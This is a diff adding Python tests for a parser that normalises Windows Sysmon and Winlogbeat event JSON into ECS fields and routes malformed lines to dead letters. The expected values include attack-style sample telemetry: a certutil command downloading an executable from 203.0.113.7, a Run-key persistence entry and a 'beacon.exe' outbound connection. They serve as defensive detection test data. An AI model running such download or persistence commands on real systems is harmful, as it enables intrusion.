@@ -1,0 +1,137 @@
+"""parse_endpoint: raw Windows/Sysmon event JSON and Winlogbeat ECS JSON."""
+
+import json
+from collections.abc import Mapping
+from datetime import UTC, datetime
+
+import polars as pl
+
+from ingest.parsers import parse_endpoint
+from ingest.schema import ENDPOINT_SCHEMA
+from tests.test_ingest import ingest_samples as samples
+
+
+def parse_rows(lines: list[str | None]) -> list[dict[str, object]]:
+    result = parse_endpoint(pl.Series(lines, dtype=pl.String))
+    assert result.dead.height == 0, result.dead.to_dicts()
+    return result.events.to_dicts()
+
+
+def subset(row: Mapping[str, object], expected: Mapping[str, object]) -> dict[str, object]:
+    return {key: row[key] for key in expected}
+
+
+def test_raw_sysmon_process_creation() -> None:
+    expected = {
+        "@timestamp": datetime(2024, 1, 2, 3, 4, 5, 678000, tzinfo=UTC),
+        "event.dataset": "endpoint.sysmon",
+        "event.module": "sysmon",
+        "event.kind": "event",
+        "event.category": "process",
+        "event.type": "start",
+        "event.code": "1",
+        "winlog.event_id": "1",
+        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
+        "host.name": "ws01.corp.example",
+        "process.executable": "C:\\Windows\\System32\\certutil.exe",
+        "process.name": "certutil.exe",
+        "process.command_line": "certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe",
+        "process.pid": 4242,
+        "process.entity_id": "{7c4a1f2e-1234-5678-9abc-def012345678}",
+        "process.working_directory": "C:\\Users\\alice\\",
+        "process.pe.original_file_name": "CertUtil.exe",
+        "process.pe.imphash": "0011aa",
+        "process.hash.md5": "ab12cd",
+        "process.hash.sha1": None,
+        "process.hash.sha256": "ef34ab",
+        "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
+        "process.parent.name": "cmd.exe",
+        "process.parent.command_line": "cmd.exe /c run.bat",
+        "process.parent.pid": 1000,
+        "user.name": "alice",
+        "user.domain": "CORP",
+        "winlog.event_data.IntegrityLevel": "High",
+        "winlog.event_data.Hashes": "MD5=AB12CD,SHA256=EF34AB,IMPHASH=0011AA",
+    }
+    assert subset(parse_rows([samples.SYSMON_PROCESS])[0], expected) == expected
+
+
+def test_event_nested_under_event_system_and_event_data() -> None:
+    expected = {
+        "event.code": "13",
+        "event.category": "registry",
+        "host.name": "ws02",
+        "process.name": "regedit.exe",
+        "registry.path": samples.RUN_KEY + "\\upd",
+        "registry.value": "upd",
+        "winlog.event_data.Details": "C:\\Users\\Public\\upd.exe",
+        "winlog.event_data.EventType": "SetValue",
+    }
+    assert subset(parse_rows([samples.EVTX_REGISTRY])[0], expected) == expected
+
+
+def test_flat_event_without_timestamp_keeps_a_null_timestamp() -> None:
+    line = json.dumps({"EventID": "4688", "Computer": "dc01", "CommandLine": "whoami /all"})
+    row = parse_rows([line])[0]
+    assert subset(row, {"@timestamp": 0, "event.code": 0, "event.module": 0, "host.name": 0}) == {
+        "@timestamp": None,
+        "event.code": "4688",
+        "event.module": "windows",
+        "host.name": "dc01",
+    }
+
+
+def test_winlogbeat_document() -> None:
+    expected = {
+        "@timestamp": datetime(2024, 1, 2, 3, 4, 5, 678000, tzinfo=UTC),
+        "event.dataset": "endpoint.winlogbeat",
+        "event.code": "3",
+        "winlog.event_id": "3",
+        "event.category": "network",
+        "host.name": "ws03",
+        "winlog.computer_name": "ws03.corp.example",
+        "process.executable": "C:\\Tools\\beacon.exe",
+        "process.name": "beacon.exe",
+        "process.pid": 77,
+        "user.name": "bob",
+        "user.domain": "CORP",
+        "destination.ip": "203.0.113.7",
+        "destination.port": 443,
+        "source.port": 50123,
+        "network.transport": "tcp",
+    }
+    assert subset(parse_rows([samples.WINLOGBEAT_NETWORK])[0], expected) == expected
+
+
+def test_dead_letters_and_survivors_of_a_bad_batch() -> None:
+    lines = [
+        samples.SYSMON_PROCESS,
+        "{not json",
+        "[1, 2, 3]",
+        '{"EventID": {"#text": 7036}}',
+        '{"hello": "world"}',
+        samples.WINLOGBEAT_NETWORK,
+        "",
+        '"just a string"',
+        json.dumps({"EventID": 1, "UtcTime": "yesterday"}),
+        samples.EVTX_REGISTRY,
+    ]
+    result = parse_endpoint(pl.Series(lines))
+    assert result.events.get_column("event.code").to_list() == ["1", "3", "13"]
+    assert result.dead.select("position", "reason").rows() == [
+        (1, "invalid JSON"),
+        (2, "JSON value is not an object"),
+        (3, "JSON field types do not fit the endpoint schema"),
+        (4, "unrecognized endpoint event shape"),
+        (6, "empty line"),
+        (7, "JSON value is not an object"),
+        (8, "invalid timestamp"),
+    ]
+    assert result.events.schema == pl.Schema(ENDPOINT_SCHEMA)
+
+
+def test_winlog_mentioned_in_a_raw_event_is_still_raw() -> None:
+    mentioned = json.dumps({"EventID": 1, "CommandLine": "winlog"})
+    as_key = json.dumps({"EventID": 2, "winlog": "not an object"})
+    rows = parse_rows([mentioned, as_key])
+    assert [row["event.dataset"] for row in rows] == ["endpoint.sysmon", "endpoint.sysmon"]
